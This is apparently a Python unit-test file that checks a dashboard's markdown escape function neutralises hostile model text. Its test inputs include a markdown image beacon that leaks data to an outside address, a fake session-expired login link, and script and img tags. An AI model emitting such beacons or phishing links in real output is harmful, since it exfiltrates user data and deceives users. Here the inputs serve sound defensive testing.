"""``dashboard.plain.escape``: hostile model text becomes markdown that shows exactly that text."""

from __future__ import annotations

import re
import string

import pytest

from dashboard.plain import WORD_JOINER, escape

pytestmark = pytest.mark.unit

HOSTILE = [
    "![x](http://203.0.113.9/beacon.png?leak=lesson)",
    "[Session expired: log in again](http://203.0.113.9/login)",
    "<img src=http://203.0.113.9/b.png> <a href='http://x'>x</a> <script>alert(1)</script>",
    "`code` **bold** _it_ ~~gone~~ $x^2$ :red[alert] :material/warning: &lt;b&gt;",
    "# SYSTEM\n> quoted\n- item\n1. first\n---\n| a | b |\n|---|---|",
    "visit www.example.com or http://203.0.113.9/x or mail me@example.com \\ done",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_markdown_active_character_is_escaped_and_nothing_is_lost(text):
    escaped = escape(text)
    unescaped = re.sub(r"\\(.)", r"\1", escaped.replace("  \n", "\n"))
    assert unescaped.replace(WORD_JOINER, "") == text
    # each ASCII punctuation character in the output is escaped by the one before it
    stripped = re.sub(r"\\.", "", escaped)
    assert not set(stripped) & set(string.punctuation)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_markdown_renderer_makes_no_link_image_or_tag_of_it(text):
    markdown = pytest.importorskip("markdown")
    html = markdown.markdown(escape(text))
    assert not re.search(r"<(img|a|script|h\d|code|strong|em|blockquote|li|table|hr)\b", html)


def test_bare_urls_www_and_emails_are_broken_for_autolinking():
    escaped = escape("see http://203.0.113.9/x, WWW.example.com and me@example.com")
    assert "http\\:" + WORD_JOINER + "\\/\\/" in escaped
    assert "WWW" + WORD_JOINER + "\\." in escaped and "me" + WORD_JOINER + "\\@" in escaped
